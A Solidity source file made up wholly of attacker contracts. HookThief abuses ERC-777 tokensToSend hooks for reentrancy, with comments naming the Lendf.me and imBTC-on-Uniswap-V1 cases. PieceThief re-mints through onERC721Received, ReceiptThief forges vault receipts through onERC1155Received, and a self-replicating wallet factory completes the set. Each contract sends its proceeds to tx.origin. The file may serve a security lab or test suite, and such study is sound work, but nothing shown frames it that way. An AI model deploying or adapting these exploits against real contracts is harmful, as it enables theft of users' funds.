// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IToken} from "./Markets.sol";

interface IRegistry {
    function setInterfaceImplementer(address, bytes32, address) external;
}

interface IMarket {
    function supply(uint256) external;
    function withdraw(uint256) external;
    function supplied(address) external view returns (uint256);
}

interface IExchange {
    function tokenToEthSwapInput(uint256, uint256, uint256) external returns (uint256);
    function ethToTokenSwapInput(uint256, uint256) external payable returns (uint256);
}

/// Speaks for itself whenever its ERC-777 tokens leave, and uses the moment.
contract HookThief {
    address private constant REGISTRY = 0x1820a4B7618BdE71Dce8cdc73aAB6C95905faD24;
    bytes32 private constant SENDER = keccak256("ERC777TokensSender");
    IToken private token;
    address private victim;
    uint256 private left;
    uint256 private amount;
    bool private lends;

    function own_ready(IToken token_, address victim_) public {
        (token, victim) = (token_, victim_);
        IRegistry(REGISTRY).setInterfaceImplementer(address(this), SENDER, address(this));
        token.approve(victim_, type(uint256).max);
    }

    /// Lendf.me: what is withdrawn in the hook is credited nevertheless.
    function own_lend(uint256 first, uint256 rounds) external {
        IMarket market = IMarket(victim);
        lends = true;
        market.supply(first);
        for (uint256 i = 0; i < rounds; i++) {
            (left, amount) = (1, market.supplied(address(this)));
            uint256 rest = token.balanceOf(address(this));
            market.supply(rest < 2 ? rest : 1);
            left = 0;
            market.supply(token.balanceOf(address(this)));
        }
        market.withdraw(market.supplied(address(this)));
        token.transfer(tx.origin, token.balanceOf(address(this)));
    }

    /// imBTC on Uniswap V1: sells again at the price before the first payment arrived.
    function own_trade(uint256 rounds) external payable {
        IExchange pool = IExchange(victim);
        uint256 bought = pool.ethToTokenSwapInput{value: msg.value}(1, block.timestamp);
        (left, amount) = (rounds - 1, bought / rounds);
        pool.tokenToEthSwapInput(amount, 1, block.timestamp);
        (bool ok, ) = tx.origin.call{value: address(this).balance}("");
        require(ok);
    }

    function tokensToSend(address, address, address, uint256, bytes calldata, bytes calldata) external {
        if (left == 0) return;
        left -= 1;
        if (msg.sender != address(token)) return;
        if (lends) IMarket(victim).withdraw(amount);
        else IExchange(victim).tokenToEthSwapInput(amount, 1, block.timestamp);
    }

    receive() external payable {}
}

interface ICollection {
    function mint() external;
    function redeem(uint256) external;
}

/// Mints again whenever it is told of a piece.
contract PieceThief {
    address private shop;
    uint256 private left;
    uint256[] private pieces;

    function own_mint(address shop_, uint256 count, bool cash) external {
        (shop, left) = (shop_, count - 1);
        ICollection(shop).mint();
        if (cash) own_cash();
    }

    function own_cash() public {
        for (uint256 i = 0; i < pieces.length; i++) ICollection(shop).redeem(pieces[i]);
        (bool ok, ) = tx.origin.call{value: address(this).balance}("");
        require(ok);
    }

    function onERC721Received(address, address, uint256 id, bytes calldata) external returns (bytes4) {
        pieces.push(id);
        if (left > 0) {
            left -= 1;
            ICollection(shop).mint();
        }
        return 0x150b7a02;
    }

    receive() external payable {}
}

interface IReceiptVault {
    function next() external view returns (uint256);
    function lock(uint256, uint256) external;
    function unlock(uint256, uint256) external;
}

interface IReceipts {
    function setApprovalForAll(address, bool) external;
}

/// Locks a lot of nothing under the number that is about to be worth something.
contract ReceiptThief {
    IReceiptVault private vault;
    uint256 private quantity;

    function own_forge(IReceiptVault vault_, IReceipts paper, IToken token, uint256 quantity_, uint256 each) external {
        (vault, quantity) = (vault_, quantity_);
        paper.setApprovalForAll(address(vault), true);
        token.approve(address(vault), type(uint256).max);
        uint256 id = vault.next();
        vault.lock(1, each);
        vault.unlock(id, quantity_ + 1);
        token.transfer(tx.origin, token.balanceOf(address(this)));
    }

    function onERC1155Received(address, address, uint256, uint256, bytes calldata) external returns (bytes4) {
        if (quantity > 0) {
            uint256 much = quantity;
            quantity = 0;
            vault.lock(much, 0);
        }
        return 0xf23a6e61;
    }

    function supportsInterface(bytes4) external pure returns (bool) {
        return true;
    }
}

interface IFactory {
    function make(bytes memory) external returns (address);
}

/// A wallet whose constructor asks for another wallet, until there are enough.
contract GreedyWallet {
    constructor(IFactory factory, IToken token, uint256 left, bytes memory self) {
        token.approve(tx.origin, type(uint256).max);
        if (left > 0) factory.make(abi.encodePacked(self, abi.encode(factory, token, left - 1, self)));
    }
}

/// Asks for the first.
contract WalletMaker {
    function own_make(IFactory factory, IToken token, uint256 count, bytes calldata self) external {
        factory.make(abi.encodePacked(self, abi.encode(factory, token, count - 1, self)));
    }
}
